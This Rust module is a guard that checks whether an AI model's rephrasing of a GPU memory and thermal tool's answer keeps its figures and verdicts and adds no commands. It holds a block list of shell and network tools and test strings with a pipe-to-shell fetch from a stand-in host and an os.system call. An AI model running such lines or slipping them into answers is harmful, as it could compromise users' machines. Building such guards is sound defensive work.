//! The guard's second half: a phrasing must keep the answer's meaning, not
//! only its figures. Each figure stays with what it measures, every verdict
//! and keep/stop stays and none is added, no figure is spelled in words, and
//! no command-like text appears that headroom's reply did not contain.

use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

/// What a figure can be the figure of, in a reply.
const LABELS: &[&str] = &[
    "weights",
    "adapter",
    "gradients",
    "optimizer",
    "activations",
    "logits",
    "slack",
    "context",
    "peak",
    "budget",
    "available",
    "reserve",
    "margin",
    "load",
    "dequantization",
    "cache",
    "total",
    "need",
    "free",
];
/// Judgements headroom makes; a phrasing may not add one it did not make.
const JUDGEMENTS: &[&str] = &[
    "does not fit",
    "doesn't fit",
    "won't fit",
    "will not fit",
    "wouldn't fit",
    "would not fit",
    "not fit",
    "too big",
    "too large",
    "expect an oom",
    "will oom",
    "would oom",
    "fits",
    "will fit",
    "would fit",
    "tight",
    "thermal throttling",
    "throttling",
    "is throttl",
    "power cap only",
    "no thermal event",
    "not enough data",
    "nothing to stop",
    "safe to run",
    "no problem",
];
const NUMBER_WORDS: &[&str] = &[
    "zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten",
    "eleven", "twelve", "fifteen", "twenty", "thirty", "forty", "fifty", "sixty", "seventy",
    "eighty", "ninety", "hundred", "thousand", "million", "billion", "dozen",
];
const UNIT_WORDS: &[&str] = &[
    "gb",
    "gib",
    "gigabytes",
    "gigabyte",
    "megabytes",
    "percent",
    "%",
    "tokens",
    "watts",
    "w",
    "degrees",
    "parameters",
    "params",
    "steps",
    "seconds",
    "minutes",
    "hours",
];
/// Words that make text a command someone could run.
const COMMAND_WORDS: &[&str] = &[
    "pip",
    "pip3",
    "python",
    "python3",
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "sudo",
    "rm",
    "kill",
    "pkill",
    "killall",
    "systemctl",
    "chmod",
    "chown",
    "dd",
    "mkfs",
    "docker",
    "apt",
    "apt-get",
    "git",
    "npm",
    "os.system",
    "subprocess",
    "eval",
    "exec",
    "nc",
    "ssh",
    "scp",
    "reboot",
    "shutdown",
    "echo",
    "export",
    "nvidia-smi",
    "torchrun",
    "accelerate",
    "sync",
    "mv",
    "cp",
    "tee",
    "crontab",
    "iptables",
];

static FIGURE: LazyLock<Regex> =
    LazyLock::new(|| crate::extract::re(r"(\d[\d,]*(?:\.\d+)?)\s?(GiB|GB|%|W|°C)"));
static FENCE: LazyLock<Regex> = LazyLock::new(|| crate::extract::re(r"(?s)```[^\n]*\n(.*?)```"));
static PID_REC: LazyLock<Regex> =
    LazyLock::new(|| crate::extract::re(r"pid (\d+)[^\n]*?\*\*(keep|stop)\*\*"));

fn squash(text: &str) -> String {
    text.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase()
}

fn tokens(text: &str) -> BTreeSet<String> {
    text.to_ascii_lowercase()
        .split(|c: char| c.is_whitespace() || "|;&()$`\"'<>,:!?[]{}=*".contains(c))
        .map(|t| t.trim_end_matches('.').to_string())
        .filter(|t| !t.is_empty())
        .collect()
}

/// Each figure with the label nearest before it in its clause.
fn pairs(text: &str) -> Vec<(Option<&'static str>, String)> {
    let lower = text.to_ascii_lowercase();
    FIGURE
        .captures_iter(text)
        .map(|c| {
            let m = c.get(0).expect("whole match");
            let value = format!("{} {}", c[1].replace(',', ""), &c[2]);
            let before = &lower[..m.start()];
            let clause_start = before
                .rfind(['\n', ';'])
                .max(before.rfind(". "))
                .map_or(0, |i| i + 1);
            let clause = &before[clause_start..];
            let label = LABELS
                .iter()
                .filter_map(|l| clause.rfind(l).map(|i| (i, *l)))
                .max_by_key(|(i, _)| *i)
                .map(|(_, l)| l);
            (label, value)
        })
        .collect()
}

/// A figure moved to another label: "the weights take only 0.17 GB".
fn moved_figure(original: &str, phrased: &str) -> Option<String> {
    let mut labels_of: BTreeMap<String, BTreeSet<&str>> = BTreeMap::new();
    let mut figures_of: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    for (label, value) in pairs(original) {
        let entry = labels_of.entry(value.clone()).or_default();
        if let Some(l) = label {
            entry.insert(l);
            figures_of.entry(l).or_default().insert(value);
        }
    }
    for (label, value) in pairs(phrased) {
        let (Some(l), Some(known)) = (label, labels_of.get(&value)) else {
            continue;
        };
        let elsewhere = figures_of.get(l).is_some_and(|f| !f.contains(&value));
        if (!known.is_empty() && !known.contains(l)) || (known.is_empty() && elsewhere) {
            return Some(format!(
                "the model put {value} next to \"{l}\", which is not what it measures"
            ));
        }
    }
    None
}

fn count(haystack: &str, needle: &str) -> usize {
    haystack.matches(needle).count()
}

/// A judgement added, or one the answer makes dropped.
fn judgement(original: &str, phrased: &str) -> Option<String> {
    let (o, p) = (squash(original), squash(phrased));
    for j in JUDGEMENTS {
        if count(&o, j) == 0 && count(&p, j) > 0 {
            return Some(format!(
                "the model added a judgement (\"{j}\") headroom did not make"
            ));
        }
    }
    // The thermal verdict stays.
    if let Some(line) = original
        .lines()
        .find(|l| l.starts_with("## Thermal check:"))
    {
        let verdict = squash(line.trim_start_matches("## Thermal check:"));
        if !p.contains(&verdict) {
            return Some(format!("the model dropped the thermal verdict ({verdict})"));
        }
    }
    // Each process keeps its keep or stop.
    for c in PID_REC.captures_iter(original) {
        let (pid, rec) = (&c[1], &c[2]);
        let kept = p.match_indices(pid).any(|(i, _)| {
            let end = (i + 240).min(p.len());
            p.is_char_boundary(end) && p[i..end].contains(rec)
        });
        if !kept {
            return Some(format!("the model dropped \"{rec}\" for pid {pid}"));
        }
    }
    None
}

/// "about two hundred gigabytes": figures spelled in words slip past the
/// number check, so they are not allowed unless the answer has them.
fn number_words(original: &str, phrased: &str) -> Option<String> {
    let o = tokens(original);
    let words: Vec<String> = phrased
        .to_ascii_lowercase()
        .split(|c: char| !c.is_alphanumeric() && c != '%' && c != '-')
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect();
    for (i, w) in words.iter().enumerate() {
        let parts: Vec<&str> = w.split('-').collect();
        if !parts.iter().all(|p| NUMBER_WORDS.contains(p)) || o.contains(w.as_str()) {
            continue;
        }
        let big = parts
            .iter()
            .any(|p| ["hundred", "thousand", "million", "billion", "dozen"].contains(p));
        let before_unit = words[i + 1..]
            .iter()
            .take(3)
            .any(|n| UNIT_WORDS.contains(&n.as_str()));
        if big || before_unit {
            return Some(format!("the model wrote a figure in words (\"{w}\")"));
        }
    }
    None
}

/// Command-like text the reply did not contain, fenced or not, however it
/// is spaced: a fenced block, a command word, a pipe into a shell.
fn commands(original: &str, phrased: &str) -> Option<String> {
    let o = squash(original);
    for c in FENCE.captures_iter(phrased) {
        let block = squash(&c[1]);
        if !block.is_empty() && !o.contains(&block) {
            return Some("the model added a code block that is not in the answer".into());
        }
    }
    let (ot, pt) = (tokens(original), tokens(phrased));
    if let Some(w) = COMMAND_WORDS
        .iter()
        .find(|w| pt.contains(**w) && !ot.contains(**w))
    {
        return Some(format!(
            "the model added a command (\"{w}\") that is not in the answer"
        ));
    }
    let p = squash(phrased);
    for op in ["| sh", "|sh", "| bash", "|bash", "$(", "&&", "`"] {
        if count(&p, op) > count(&o, op) && op != "`" {
            return Some("the model added a command that is not in the answer".into());
        }
    }
    None
}

/// Why a phrasing changes the answer's meaning, if it does.
pub fn check(original: &str, phrased: &str) -> Result<(), String> {
    match commands(original, phrased)
        .or_else(|| number_words(original, phrased))
        .or_else(|| judgement(original, phrased))
        .or_else(|| moved_figure(original, phrased))
    {
        Some(why) => Err(why),
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLAN: &str = "**Verdict: fits.** Estimated peak 35.62 GB is 29.9 % of the 119.48 GB budget.\n\n- weights: **15.24 GB** = 7,615,487,488 params × 2 B (bf16) = 15.24 GB\n- LoRA adapter: **0.17 GB** = rank 16\n- gradients: **0.17 GB**\n\nRun `free -g` to confirm.";

    #[test]
    fn the_issues_examples_are_rejected() {
        for bad in [
            "Honestly, it won't fit: expect an OOM. Peak 35.62 GB.",
            "It fits.\n\n```\npip install vllm\npython -c \"import os; os.system('id')\"\n```",
            "It fits. Then curl\thttp://example.com/x|sh",
            "It fits, needing about two hundred gigabytes.",
            "It fits: the weights take only 0.17 GB; the LoRA adapter needs 15.24 GB.",
        ] {
            assert!(check(PLAN, bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn a_faithful_phrasing_passes() {
        let good = "It fits: the peak is 35.62 GB, 29.9 % of the 119.48 GB budget. The weights are 15.24 GB; the LoRA adapter 0.17 GB and its gradients 0.17 GB. Confirm with `free -g`.";
        assert_eq!(check(PLAN, good), Ok(()));
    }

    #[test]
    fn pool_and_thermal_verdicts_are_kept() {
        let pool = "## Shared pool\n\n- pid 4121 — vLLM server: cap 0.9. **stop**: near capacity.\n- pid 1022 — Ollama server. **keep**: small.";
        assert!(check(pool, "Nothing to stop here.").is_err());
        assert!(
            check(
                pool,
                "pid 4121 (vLLM) should stop; pid 1022 (Ollama) can keep running."
            )
            .is_ok()
        );
        let thermal = "## Thermal check: no thermal event\n\nThe slowdown at 10:40 is not thermal.";
        assert!(check(thermal, "This is thermal throttling.").is_err());
        assert!(
            check(
                thermal,
                "No thermal event: the slowdown at 10:40 has another cause."
            )
            .is_ok()
        );
    }
}
